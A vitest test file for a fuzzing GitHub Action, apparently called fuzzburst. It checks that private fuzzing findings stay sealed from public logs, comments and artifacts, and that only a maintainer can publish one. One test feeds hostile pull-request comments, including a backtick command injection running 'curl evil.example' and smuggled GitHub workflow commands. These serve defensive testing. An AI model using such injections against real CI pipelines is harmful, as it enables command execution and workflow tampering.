// Private findings: what strangers see, what a maintainer gets, and how one is published.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { unzipSync } from 'fflate'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { zReport } from '../src/report/report.ts'
import { pullRequestEvent, recordedEvent } from './harness/githubEvents.ts'
import { type GithubProject, githubProject } from './harness/githubJob.ts'
import { runCli } from './harness/runCli.ts'
import { ADVISORIES } from './servers/github/permissions.ts'
import type { StepEnd } from './servers/githubRunner.ts'

/** Words of the fixture's findings: properties, reasons, sources and helper contracts. */
const WORDS = [
  'nothingIsForgotten',
  'coinsAreReceived',
  'a coin is forgotten',
  'the purse is off',
  'Purse.t.sol',
  'PurseTest',
]

let project: GithubProject
let folder: string
let publicKey = ''
let secret = ''
let end: StepEnd
let ids: string[] = []

beforeAll(async () => {
  project = await githubProject('findings')
  folder = mkdtempSync(path.join(tmpdir(), 'fuzzburst-private-'))
  const keyFile = path.join(folder, 'findings.key')
  const made = await runCli(['findings', 'keygen', keyFile], { cwd: folder })
  expect(made.code, made.stderr).toBe(0)
  publicKey = made.stdout.trim()
  secret = readFileSync(keyFile, 'utf8').trim()
  const head = project.commit('a forgetful purse')
  project.github.state.permissions.set('maintainer', 'write')
  project.github.state.pulls.push({
    number: 2,
    state: 'open',
    head: { ref: 'changes', sha: head, repository: 'Codertocat/Hello-World' },
    base: { ref: 'main', sha: 'f'.repeat(40) },
    files: [],
  })
  end = await project.run('pull_request', pullRequestEvent({ head, base: 'f'.repeat(40) }), {
    // A relay that nobody answers at: why it is not used must be said.
    inputs: {
      findings: 'private',
      'findings-key': publicKey,
      relay: 'http://127.0.0.1:9',
      account: `0x${'12'.repeat(32)}`,
      key: `0x${'34'.repeat(32)}`,
    },
  })
})
afterAll(async () => {
  rmSync(folder, { recursive: true, force: true })
  await project.close()
  expect(project.github.violations).toEqual([])
})

const file = (output: string): string => readFileSync(end.outputs.get(output) ?? '', 'utf8')
/** Somebody's comment on the pull request. */
function comment(body: string, login = 'maintainer'): ReturnType<typeof recordedEvent> {
  const event = recordedEvent('issue_comment', 'created')
  Object.assign(event.issue, { number: 2, pull_request: {} })
  Object.assign(event.comment, { body, user: { ...event.comment.user, login } })
  return event
}
const published = () => project.github.state.comments.filter(({ body }) => body.startsWith('<!-- fuzzburst:published'))

test('a key that is no public key is refused, and nothing runs', async () => {
  for (const key of ['{', '{"kty":"RSA"}', secret]) {
    const refused = await project.run('push', recordedEvent('push'), {
      inputs: { findings: 'private', 'findings-key': key },
    })
    expect([refused.code, refused.log]).toEqual([1, expect.stringContaining('error FB7010: The input `findings-key`')])
    expect(refused.log).not.toContain(JSON.parse(secret).d)
  }
})

test('no surface, no annotation, no file and no artifact holds more than counts and ids', () => {
  expect(end.code, end.log).toBe(1)
  ids = zReport.parse(JSON.parse(file('report-json'))).findings.map(({ id }) => id)
  expect(ids.length).toBeGreaterThan(0)
  const { checks, comments, sarifs, artifacts } = project.github.state
  expect(sarifs).toEqual([])
  expect(artifacts.map(({ name }) => name)).toEqual(['fuzzburst-findings'])
  const stateDir = path.dirname(end.outputs.get('report-json') ?? '')
  const shown = {
    log: end.log,
    summary: end.summary,
    outputs: [...end.outputs].join('\n'),
    check: JSON.stringify(checks),
    // The state that a comment hides is part of it.
    comment: comments
      .map(({ body }) => body + Buffer.from(/state ([\w-]+)/.exec(body)?.[1] ?? '', 'base64url'))
      .join('\n'),
    json: file('report-json'),
    sarif: file('report-sarif'),
    markdown: readFileSync(path.join(stateDir, 'report.md'), 'utf8'),
    artifact: Buffer.concat(Object.values(unzipSync(artifacts[0]!.zip))).toString('latin1'),
    repro: readdirSync(end.outputs.get('repro') ?? '').join('\n'),
  }
  for (const [surface, text] of Object.entries(shown))
    for (const word of WORDS) expect([surface, word, text.includes(word)]).toEqual([surface, word, false])
  for (const surface of ['log', 'summary', 'check', 'comment'] as const) expect(shown[surface]).toContain(ids[0])
})

test('that the pool is not used is said, with the reason', () => {
  expect(end.log).toContain('THE POOL IS NOT USED')
  expect(end.log).toMatch(/error FB3\d{3}: /)
})

test('the maintainer opens what was sealed, whole; another key does not', async () => {
  const sealed = end.outputs.get('findings-sealed') ?? ''
  const other = path.join(folder, 'other.key')
  await runCli(['findings', 'keygen', other], { cwd: folder })
  const wrong = await runCli(['findings', 'open', sealed, '--key-file', other], { cwd: folder })
  expect([wrong.code, wrong.stderr]).toEqual([2, expect.stringContaining('FB2049')])
  const twice = await runCli(['findings', 'keygen', other], { cwd: folder })
  expect([twice.code, twice.stderr]).toEqual([2, expect.stringContaining('cannot be written')])
  const args = ['findings', 'open', sealed, '--key-file', path.join(folder, 'findings.key')]
  const report = zReport.parse(JSON.parse((await runCli([...args, '--json'], { cwd: folder })).stdout))
  expect(report.findings.map(({ id }) => id)).toEqual(ids)
  expect(report.findings.some(({ repro }) => repro !== null)).toBe(true)
  expect((await runCli(args, { cwd: folder })).stdout).toContain('nothingIsForgotten')
})

test('a stranger, an unknown finding and hostile text publish nothing', async () => {
  const inputs = { 'findings-secret': secret }
  const tries = [
    comment(`/fuzzburst publish ${ids[0]}`, 'stranger'),
    comment('/fuzzburst publish F-00000000'),
    comment(`/fuzzburst publish ${ids[0]}\`; curl evil.example\`<!-- ::add-mask::x`),
    comment(`::set-output name=x::y\n/fuzzburst publish ${ids[0]}`),
  ]
  const ends = []
  for (const event of tries) ends.push(await project.run('issue_comment', event, { inputs }))
  expect(ends.map(({ code }) => code)).toEqual([0, 0, 0, 0])
  expect(
    ends.map(({ log }) => /no write access|no finding F-00000000|is not understood|no new comment/.exec(log)?.[0]),
  ).toEqual(['no write access', 'no finding F-00000000', 'is not understood', 'no new comment'])
  expect(ends.flatMap(({ commands }) => commands.filter(({ name }) => name === 'set-output'))).toEqual([])
  expect(published()).toEqual([])
})

test('a maintainer publishes one finding: its details are in a comment, the others stay private', async () => {
  const done = await project.run('issue_comment', comment(`/fuzzburst publish ${ids[0]}`), {
    inputs: { 'findings-secret': secret },
  })
  expect([done.code, done.log]).toEqual([0, expect.stringContaining(`published ${ids[0]}`)])
  expect(done.commands.filter(({ name }) => name === 'add-mask').map(({ message }) => message)).toContain(
    JSON.parse(secret).d,
  )
  expect(published()).toMatchObject([{ issue: 2 }])
  expect(published()[0]?.body).toMatch(/nothingIsForgotten|coinsAreReceived/)
  for (const id of ids.slice(1)) expect(published()[0]?.body).not.toContain(id)
  expect(project.github.state.reactions.at(-1)).toMatchObject({ content: 'rocket' })
})

test('a token that may not write advisories costs one line; one that may keeps one draft for each finding', async () => {
  const { advisories } = project.github.state
  const push = (token: string) =>
    project.run('push', recordedEvent('push'), { inputs: { findings: 'private', 'advisories-token': token } })
  const denied = await push('token')
  expect(denied.log).toContain('no draft advisories, because advisories-token may not')
  expect([denied.code, denied.outputs.get('verdict'), advisories]).toEqual([1, 'failed', []])
  project.github.grant('advisories', { actor: { login: 'maintainer', type: 'User' }, permissions: ADVISORIES })
  const first = await push('advisories')
  expect(first.log).toContain(`draft advisories: ${ids.length} opened`)
  expect(first.commands.filter(({ name }) => name === 'add-mask').map(({ message }) => message)).toContain('advisories')
  for (const { state, description } of advisories) {
    expect(state).toBe('draft')
    expect(description).toMatch(/nothingIsForgotten|coinsAreReceived/)
  }
  await push('advisories')
  expect(advisories).toHaveLength(ids.length)
  const { checks, comments } = project.github.state
  const shown = [
    denied.log,
    first.log,
    first.summary,
    JSON.stringify([checks, comments.filter((one) => !published().includes(one))]),
  ]
  for (const word of WORDS) expect([word, shown.join('\n').includes(word)]).toEqual([word, false])
})

test('without a key the details stay in the files on the runner', async () => {
  writeFileSync(path.join(project.repository, 'README.md'), 'x')
  project.commit('words')
  const open = await project.run('push', recordedEvent('push'), { inputs: { findings: 'private' } })
  expect(open.outputs.has('findings-sealed')).toBe(false)
  expect(readFileSync(open.outputs.get('report-json') ?? '', 'utf8')).toContain('nothingIsForgotten')
})
